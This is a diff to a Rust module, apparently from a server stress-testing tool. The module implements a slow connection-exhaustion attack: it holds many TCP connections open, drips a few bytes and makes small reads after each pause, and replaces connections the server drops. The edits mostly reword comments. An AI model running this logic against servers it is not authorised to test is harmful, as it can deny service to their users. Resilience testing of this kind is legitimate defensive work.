@@ -1,4 +1,4 @@
-//! Many connections that are opened, kept and hardly used.
+//! Attacks that hold many connections open and hardly use them.
 
 use std::io::{self, Read, Write};
 use std::net::{SocketAddr, TcpStream};
@@ -10,20 +10,20 @@ use rustix::time::Timespec;
 
 use super::link::{Against, open};
 
-/// What is done with connections.
+/// The use of the connections.
 #[derive(Clone, Debug)]
 pub struct Hold {
-    /// How many are open at a time: one that the server ends is replaced.
+    /// Connections at a time; one that the server ends is replaced.
     pub connections: usize,
-    /// What each begins with, as far as the server takes it at once.
+    /// Bytes to send first, as far as the socket accepts them at once.
     pub opening: Vec<u8>,
-    /// What is sent on each after each pause; nothing if it is empty.
+    /// Bytes to send after each pause; may be empty.
     pub drip: &'static [u8],
-    /// Bytes that are read from each after each pause.
+    /// Bytes to read after each pause.
     pub sip: usize,
-    /// The receive buffer of each, unless it is to be the kernel's choice.
+    /// The receive buffer of each connection; `None` leaves it to the kernel.
     pub buffer: Option<usize>,
-    /// Between two turns.
+    /// The time between two uses.
     pub pause: Duration,
 }
 
@@ -32,6 +32,7 @@ impl Hold {
     pub fn run(&self, against: &Against<'_>, address: SocketAddr) {
         let mut streams: Vec<TcpStream> = Vec::with_capacity(self.connections);
         while against.tally.goes_on() {
+            // Drop the connections that the server has ended; the loop below replaces them.
             streams.retain(|stream| {
                 let kept = self.use_a_little(stream, against).is_ok();
                 against.tally.ended.add(usize::from(!kept));
@@ -40,6 +41,7 @@ impl Hold {
             while streams.len() < self.connections && against.tally.goes_on() {
                 match self.begin(against, address) {
                     Ok(stream) => streams.push(stream),
+                    // Refused: wait for the next turn instead of trying again at once.
                     Err(_) => {
                         against.tally.ended.add(1);
                         break;
@@ -62,9 +64,12 @@ impl Hold {
         Ok(stream)
     }
 
+    /// Sends and reads a little on a connection.
+    ///
     /// # Errors
     /// The server has ended the connection.
     fn use_a_little(&self, mut stream: &TcpStream, against: &Against<'_>) -> io::Result<()> {
+        // A closed connection shows without reading, which would open the window.
         let mut fds = [PollFd::new(stream, PollFlags::RDHUP)];
         if poll(&mut fds, Some(&Timespec::default()))? > 0 {
             return Err(io::ErrorKind::ConnectionAborted.into());
@@ -82,7 +87,7 @@ impl Hold {
     }
 }
 
-/// What would block has done nothing.
+/// Counts an operation that would block as one of 0 bytes.
 fn unless_blocked(result: io::Result<usize>) -> io::Result<usize> {
     match result {
         Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(0),
